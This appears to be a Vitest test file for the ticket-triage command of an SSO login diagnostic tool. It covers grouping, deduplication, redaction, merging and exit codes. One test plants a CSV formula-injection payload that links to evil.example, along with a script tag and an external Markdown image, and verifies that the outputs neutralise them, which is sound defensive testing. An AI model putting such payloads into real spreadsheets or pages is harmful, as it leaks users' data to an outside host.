import { mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { TriageReport } from '../../src/triage/triage-report.ts';
import { calculated, configured } from '../helpers/evidence.ts';
import { runMain } from '../helpers/run-main.ts';
import { expectValidReport } from '../helpers/schema.ts';

const failing = `https://auth.influxdata.com/login/callback?error=access_denied&error_description=${encodeURIComponent(
  `Invalid thumbprint (configured: ${configured}. calculated: ${calculated})`,
)}&state=hKFo2SBxVGZ5`;

function folderWith(files: Readonly<Record<string, string | Buffer>>): string {
  const folder = mkdtempSync(join(tmpdir(), 'triage-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(folder, name, '..'), { recursive: true });
    writeFileSync(join(folder, name), content);
  }
  return folder;
}

const ticket = (id: number, description: string): string =>
  `${JSON.stringify({ id, requester_id: id, subject: 'Login', created_at: '2026-11-24T08:00:00Z', description })}\n`;

async function triaged(args: readonly string[]): Promise<TriageReport> {
  const { stdout, stderr } = await runMain(['triage', ...args, '--json']);
  expect(stderr).toBe('');
  return JSON.parse(stdout) as TriageReport;
}

describe('triage', () => {
  test('makes one incident of many tickets, however they come', async () => {
    const folder = folderWith({
      'a.ndjson': ticket(1, failing) + ticket(2, failing),
      'deep/er/b.ndjson.gz': gzipSync(ticket(3, failing) + ticket(4, failing)),
      'c.txt': `It says ${failing}`,
    });
    const report = await triaged([folder]);
    expect(report.groups).toMatchObject([
      { code: 'invalid-thumbprint', count: 5, certainty: { certain: 5 }, owner: 'idp-admin', people: { count: 4 } },
    ]);
    expect(report.groups[0]?.thumbprints).toEqual({ configured, calculated });
  });

  test('lists what it cannot read with the reason, and goes on', async () => {
    const folder = folderWith({
      'a.ndjson': `${ticket(1, failing)}{"id"\n`,
      'b.gz': Buffer.from([0x1f, 0x8b, 8, 0, 1]),
    });
    symlinkSync('/etc/hostname', join(folder, 'link'));
    const report = await triaged([folder]);
    expect(report.totals).toMatchObject({ diagnosed: 1, unreadable: 3 });
    expect(report.unreadable.map(({ reason }) => reason).join('\n')).toMatch(/symbolic link/);
  });

  test('says nothing personal and nothing secret of any ticket', async () => {
    const folder = folderWith({ 'a.ndjson': ticket(1, `jo.doe@acme.example writes: ${failing}`) });
    for (const format of ['text', 'json', 'markdown', 'csv', 'html', 'ndjson']) {
      const { stdout } = await runMain(['triage', folder, '--format', format]);
      expect(stdout).toContain('invalid-thumbprint');
      expect(stdout).not.toMatch(/jo\.doe|hKFo2SBxVGZ5/);
    }
  });

  test('as NDJSON gives each ticket the report that the main command would give', async () => {
    const folder = folderWith({ 'a.ndjson': ticket(1, failing) + ticket(2, 'Nothing') });
    const { stdout } = await runMain(['triage', folder, '--format', 'ndjson']);
    const reports = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(reports.map(({ ticket }) => ticket)).toMatchObject([{ id: '1', subject: 'Login' }, { id: '2' }]);
    for (const report of reports) expectValidReport(report);
    const alone = JSON.parse((await runMain([failing, '--json'])).stdout) as { diagnoses: unknown };
    expect(reports[0]?.['diagnoses']).toEqual(alone.diagnoses);
  });

  test('counts what the customer wrote last more than what is quoted', async () => {
    const other = failing.replace('Invalid%20thumbprint', 'Wrong%20thumbprint');
    const [group] = (await triaged([folderWith({ 'a.ndjson': ticket(1, `Now: ${failing}\n> before: ${other}`) })]))
      .groups;
    expect(group).toMatchObject({ code: 'invalid-thumbprint', certainty: { certain: 1 } });
    const [quoted] = (await triaged([folderWith({ 'a.ndjson': ticket(1, `Still broken, see below\n> ${failing}`) })]))
      .groups;
    expect(quoted).toMatchObject({ code: 'invalid-thumbprint' });
  });

  test('keeps to a period and counts what lies outside', async () => {
    const folder = folderWith({ 'a.ndjson': ticket(1, failing) });
    expect((await triaged([folder, '--since', '2026-11-24', '--until', '2026-11-24'])).totals.diagnosed).toBe(1);
    expect((await triaged([folder, '--since', '2026-11-25'])).totals).toMatchObject({ tickets: 0, outsidePeriod: 1 });
  });

  test('writes a draft for each who has to act', async () => {
    const folder = folderWith({ 'a.ndjson': ticket(1, `jo.doe@acme.example: ${failing}`) });
    const replies = join(folder, 'replies');
    await runMain(['triage', join(folder, 'a.ndjson'), '--replies', replies]);
    const names = readdirSync(replies);
    expect(names.map((name) => name.replace(/-[0-9a-f]{8}-/, '-'))).toEqual([
      'invalid-thumbprint-broker-support.md',
      'invalid-thumbprint-idp-admin.md',
    ]);
    for (const name of names) expect(readFileSync(join(replies, name), 'utf8')).not.toMatch(/jo\.doe|hKFo2SBxVGZ5/);
  });

  test('groups by the application that the addresses name', async () => {
    const of = (client: string): string => failing.replace('error=', `client_id=${client}&error=`);
    const folder = folderWith({
      'a.ndjson': ticket(1, of('portal')) + ticket(2, of('wiki')) + ticket(3, of('portal')),
    });
    const { stdout } = await runMain(['triage', folder, '--group-by', 'application', '--json']);
    const { groups } = JSON.parse(stdout) as { groups: { count: number; applications: { value: string }[] }[] };
    expect(groups.map(({ count, applications }) => [count, applications[0]?.value])).toEqual([
      [2, 'portal'],
      [1, 'wiki'],
    ]);
  });

  test('joins parts to the same bytes as the whole', async () => {
    const folder = folderWith({
      'a.ndjson': ticket(1, failing) + ticket(2, 'SSO is broken'),
      'b.ndjson': ticket(3, failing) + ticket(4, 'Invoice'),
      // What `split` makes parts of stands on other lines of other files then.
      'both.ndjson': ticket(1, failing) + ticket(2, 'SSO is broken') + ticket(3, failing) + ticket(4, 'Invoice'),
    });
    const part = async (name: string): Promise<string> => {
      const file = join(folder, `${name}.part`);
      await runMain(['triage', join(folder, `${name}.ndjson`), '--partial', '--output', file]);
      return file;
    };
    const [a, b] = [await part('a'), await part('b')];
    const whole = await runMain(['triage', join(folder, 'a.ndjson'), join(folder, 'b.ndjson'), '--partial']);
    const uncut = await runMain(['triage', join(folder, 'both.ndjson'), '--partial']);
    expect(whole.stdout).toBe(uncut.stdout);
    for (const order of [
      [a, b],
      [b, a],
    ]) {
      expect((await runMain(['triage', '--merge', ...order, '--partial'])).stdout).toBe(whole.stdout);
    }
  });

  test('counts a ticket once that lies in two inputs, also where they were read apart', async () => {
    const mail = (id: string): string =>
      `From: jo@acme.example\nSubject: Login\nMessage-ID: <${id}@acme.example>\nDate: Tue, 24 Nov 2026 08:00:00 +0000\n\n${failing}\n`;
    const folder = folderWith({
      'a/export.ndjson': ticket(1, failing) + ticket(2, failing),
      'a/one.eml': mail('1'),
      'b/newer.ndjson': ticket(2, failing) + ticket(1, `${failing} Still broken`),
      'b/box.mbox': ['1', '2'].map((id) => `From jo@acme.example Tue Nov 24 08:00:00 2026\n${mail(id)}\n`).join(''),
      // The same words of two people, as far as anybody can tell.
      'b/pasted.txt': failing,
      'b/again.txt': failing,
    });
    expect(await triaged([folder])).toMatchObject({
      totals: { tickets: 7, duplicates: 2 },
      groups: [{ count: 7, certainty: { certain: 7 } }],
    });
    const whole = await runMain(['triage', folder, '--partial']);
    const parts = ['a', 'b'].map((name) => join(folder, `${name}.json`));
    for (const part of parts) await runMain(['triage', part.replace('.json', ''), '--partial', '--output', part]);
    const apart = await runMain(['triage', '--merge', ...parts, '--partial']);
    expect(apart.stdout).toBe(whole.stdout);
    expect((await runMain(['triage', '--merge', ...parts])).stdout).toContain('2, which count once');
  });

  test.each(['[]', '{"kind":"sso-doctor-triage-partial","schemaVersion":1,"terms":{},"summary":{}}', 'null', '{"kind'])(
    'joins nothing that is no part: %s',
    async (content) => {
      const folder = folderWith({ 'part.json': content });
      const { status, stderr } = await runMain(['triage', '--merge', join(folder, 'part.json')]);
      expect(status).toBe(2);
      expect(stderr).toContain('wrote no such file, or it is damaged');
    },
  );

  test('writes over no file, and says so before it reads anything', async () => {
    const folder = folderWith({ 'a.ndjson': ticket(1, failing), 'there.txt': 'mine' });
    for (const format of ['text', 'ndjson']) {
      const args = ['triage', join(folder, 'a.ndjson'), '--format', format, '--output', join(folder, 'there.txt')];
      expect(await runMain(args)).toMatchObject({ status: 2, stdout: '' });
    }
    expect(readFileSync(join(folder, 'there.txt'), 'utf8')).toBe('mine');
  });

  test('no cell of a CSV is a formula, and nothing in a page or in Markdown is alive', async () => {
    const id = '=HYPERLINK("https://evil.example/?"&A1)<script>alert(1)</script>![x](https://evil.example/x.png)';
    const folder = folderWith({ 'a.ndjson': ticket(1, failing).replace('"id":1', `"id":${JSON.stringify(id)}`) });
    const as = async (format: string): Promise<string> =>
      (await runMain(['triage', folder, '--format', format])).stdout;
    expect(await as('csv')).toContain(`,"'=HYPERLINK(""https`);
    expect(await as('html')).not.toContain('<script>');
    expect(await as('markdown')).not.toMatch(/!\[x\]|<script>/);
  });

  test.each([
    ['nothing that has to do with a login', 'The invoice is wrong', 3],
    ['nothing that can be read', '', 2],
    ['only logins that went well', '{"log_id":"1","type":"s","date":"2026-11-24T08:00:00Z"}\n'.repeat(2), 0],
    ['a login that fails without a reason', 'SSO is broken', 1],
    ['a failed login', failing, 1],
  ])('ends with a status that tells what was there: %s', async (_, content, status) => {
    expect((await runMain(['triage', folderWith({ 'a.txt': content })])).status).toBe(status);
  });

  test.each([
    [['--since', 'yesterday'], 'not a date'],
    [['--limit', '0'], 'not a number'],
    [['--fields', 'nonsense'], 'role=column'],
    [['--format', 'ndjson', '--partial'], 'ndjson'],
    [['/nonexistent'], 'no such file'],
    [['--merge', '/etc/hostname'], 'wrote no such file'],
  ])('refuses %j', async (args, words) => {
    const { status, stderr } = await runMain(['triage', ...args]);
    expect(status).toBe(2);
    expect(stderr).toContain(words);
  });
});
